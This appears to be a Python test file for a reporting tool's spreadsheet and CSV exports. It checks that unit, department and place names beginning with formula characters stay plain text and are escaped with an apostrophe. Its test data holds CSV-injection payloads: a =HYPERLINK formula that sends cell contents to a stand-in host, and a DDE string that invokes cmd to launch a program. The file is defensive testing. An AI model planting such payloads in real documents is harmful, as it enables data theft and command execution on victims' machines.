"""Issue 21, item 3: a name that starts with = + - @ (OWASP "CSV injection") is text in
every spreadsheet and CSV we offer: a unit, a department and a place named
=HYPERLINK("https://x.invalid/"&A1,"Nhà văn hóa"), from data/ or from an imported report."""

import csv
import datetime as dt
import io
from dataclasses import replace

import openpyxl
import pytest

from macros.exports import cells
from macros.exports import csv as csv_export
from macros.exports import template, xlsx
from tests import sheets
from tests.results_fixtures import ON_TIME, SITE, fixture_text, results_of, with_results

STAMP = dt.datetime(2024, 1, 2, 3, 4, 5, tzinfo=dt.timezone.utc)
HOSTILE = '=HYPERLINK("https://x.invalid/"&A1,"Nhà văn hóa")'
HOSTILE_DEPT = '@SUM(1+1)*cmd|" /C calc"!A0'
HOSTILE_UNIT_CAP, HOSTILE_UNIT_TEN = '=HYPERLINK("https://x.invalid/"&A1,', '"Nhà văn hóa")'
HOSTILE_UNIT = f"{HOSTILE_UNIT_CAP} {HOSTILE_UNIT_TEN}"  # unit_title(): cấp + tên
OTHERS = ("+1+2", "-3+4", "\t=1+1", "\r=1+1")


def _hostile_site():
    units = SITE.units_file.model_copy(deep=True)
    unit = units.don_vi[[u.ma for u in units.don_vi].index(ON_TIME)]
    units.don_vi[[u.ma for u in units.don_vi].index(ON_TIME)] = unit.model_copy(
        update={"cap": HOSTILE_UNIT_CAP, "ten": HOSTILE_UNIT_TEN})
    org = SITE.org.model_copy(deep=True)
    dept = SITE.assignment_of(ON_TIME).ban
    i = [d.ma for d in org.ban].index(dept)
    org.ban[i] = org.ban[i].model_copy(update={"ten": HOSTILE_DEPT})
    return replace(SITE, units_file=units, org=org)


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Every spreadsheet and CSV of the hostile data, as files."""
    site = _hostile_site()
    text = fixture_text(ON_TIME).replace("dia_diem: Nhà văn hóa Thôn Mẫu 1", f"dia_diem: '{HOSTILE}'")
    text = text.replace("dia_diem: Nhà rông Làng Mẫu 3", f"dia_diem: '{OTHERS[0]}'")
    text = text.replace("dia_diem: Nhà văn hóa Thôn Mẫu 2", f"dia_diem: '{OTHERS[1]}'")
    assert HOSTILE in text
    results = results_of(with_results(tmp_path_factory.mktemp("kq"), {f"{ON_TIME}.yaml": text}))
    out = tmp_path_factory.mktemp("made")
    files = {
        "phan-cong.xlsx": xlsx.assignment_xlsx(site, STAMP),
        "kinh-phi.xlsx": xlsx.budget_xlsx(site, STAMP),
        "ket-qua.xlsx": xlsx.results_xlsx(site, results, STAMP),
        "mau-bao-cao.xlsx": template.template_xlsx(site, ON_TIME, STAMP),
        "phan-cong.csv": csv_export.assignment_csv(site),
        "kinh-phi.csv": csv_export.budget_csv(site),
        "ket-qua.csv": csv_export.results_csv(site, results),
    }
    for name, data in files.items():
        (out / name).write_bytes(data)
    return out


def test_every_text_cell_of_every_workbook_is_text(made):
    seen = set()
    for path in sorted(made.glob("*.xlsx")):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert {HOSTILE, HOSTILE_DEPT, HOSTILE_UNIT, *OTHERS[:2]} <= seen  # kept exactly, as text


def test_every_csv_cell_that_looks_like_a_formula_is_neutralised(made):
    seen = set()
    for path in sorted(made.glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
            for value in row:
                assert not value.startswith(cells.FORMULA_START), (path.name, value)
                seen.add(value)
    assert {"'" + HOSTILE_DEPT, "'" + HOSTILE_UNIT} <= seen
    assert "'" + cells.csv_text(HOSTILE) == "''" + HOSTILE  # idempotent in form: one apostrophe added once
    assert [cells.csv_text(v) for v in OTHERS] == ["'" + v for v in OTHERS]
    assert cells.csv_text("Nhà văn hóa") == "Nhà văn hóa" and cells.csv_text("") == ""


def test_libreoffice_shows_the_names_and_runs_no_formula(made, tmp_path):
    """LibreOffice, the clerks' program, opens each file: a formula it ran would show
    «Nhà văn hóa» (the link's label) or 2 instead of the name."""
    books = sorted(made.glob("*.xlsx"))
    csvs = sorted(made.glob("*.csv"))
    # Each workbook's sheets to CSV (the last filter token -1: every sheet, LibreOffice >= 7.2),
    # each of our CSVs opened as a spreadsheet, formulas evaluated if any, saved as xlsx.
    sheets.convert(books, 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
                   tmp_path / "csv")
    opened = sheets.convert(csvs, "xlsx", tmp_path / "xlsx",
                            infilter="CSV:44,34,76,1,,0,false,true,false,false,true")
    text = "\n".join(p.read_text(encoding="utf-8") for p in sorted((tmp_path / "csv").glob("*.csv")))
    assert HOSTILE.replace('"', '""') in text and HOSTILE_DEPT.replace('"', '""') in text
    assert HOSTILE_UNIT.replace('"', '""') in text
    for path in opened:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)


def test_a_name_arriving_through_the_excel_import_stays_text(tmp_path):
    """A clerk's text cell «=HYPERLINK(…)» (typed after an apostrophe) is imported as the
    place's name, and every spreadsheet made from it shows it as text."""
    from macros import import_report
    from macros.exports import template as T
    from macros.results.model import UnitResults
    from macros.yamlsrc import read_yaml
    from tests.results_fixtures import FIXTURES
    from tests.test_results_exports import fill_template

    wb = fill_template(UnitResults.model_validate(read_yaml(FIXTURES / f"{ON_TIME}.yaml", "x").data),
                       tmp_path / "bao-cao.xlsx", "24/11/2023")
    cell = wb[T.CONFERENCES]["B2"]
    cell.value = HOSTILE
    cell.data_type = "s"  # text, as a spreadsheet stores a typed '=…
    wb.save(tmp_path / "bao-cao.xlsx")
    code, text, _ = import_report.import_report(tmp_path / "bao-cao.xlsx")
    results = results_of(with_results(tmp_path / "kq", {f"{code}.yaml": text}))
    assert results.of(code).hoi_nghi[0].dia_diem == HOSTILE
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.results_xlsx(SITE, results, STAMP)))["Hội nghị"]
    place = next(c for (c,) in ws.iter_rows(min_col=3, max_col=3) if c.value == HOSTILE)
    assert place.data_type == "s"
    rows = list(csv.reader(io.StringIO(csv_export.to_csv(*xlsx.conference_rows(SITE, results)).decode("utf-8-sig"))))
    assert "'" + HOSTILE in [r[2] for r in rows]
